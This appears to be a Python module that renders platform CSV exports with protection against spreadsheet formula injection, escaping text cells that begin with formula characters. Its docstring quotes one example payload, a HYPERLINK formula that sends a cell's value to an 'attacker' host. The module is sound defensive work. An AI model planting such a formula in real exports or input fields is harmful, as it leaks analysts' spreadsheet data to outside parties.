"""CSV for spreadsheets, safe from formula injection. Every CSV the platform writes goes
through `csv_render` (one helper, so no writer forgets the rule).

A cell that starts with `=`, `+`, `-` or `@` (or a tab, carriage return or line feed, which
spreadsheets skip before one of those) is run as a formula when the file is opened:
`=HYPERLINK("http://attacker/?"&A1, "click")` sent as an end user id or a feature name would
run in the analyst's spreadsheet. As OWASP's CSV injection guidance advises, such a text cell
gets a leading `'`, which spreadsheets show as text. Numbers are numbers, not text: they stay
as they are, so a negative change (-12.5) is still a number in the sheet; only strings (ids,
names, keys, e-mails) are escaped.
"""

import csv
import io
from collections.abc import Iterable, Mapping
from datetime import date, datetime
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_cell(value: object) -> object:
    """`value` as a CSV cell: None is empty, numbers and dates as they are, text escaped."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal | date | datetime):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_render(rows: Iterable[Mapping], columns: Iterable[str] = ()) -> str:
    """Rows of flat dicts as CSV text, the first row's keys as the header (`columns` when
    there is no row, so that an empty export is still a CSV file with its header)."""
    rows = list(rows)
    out = io.StringIO()
    fieldnames = list(rows[0].keys()) if rows else list(columns)
    if fieldnames:
        writer = csv.DictWriter(out, fieldnames=fieldnames, extrasaction="ignore")
        writer.writeheader()
        for row in rows:
            writer.writerow({key: csv_cell(value) for key, value in row.items()})
    return out.getvalue()
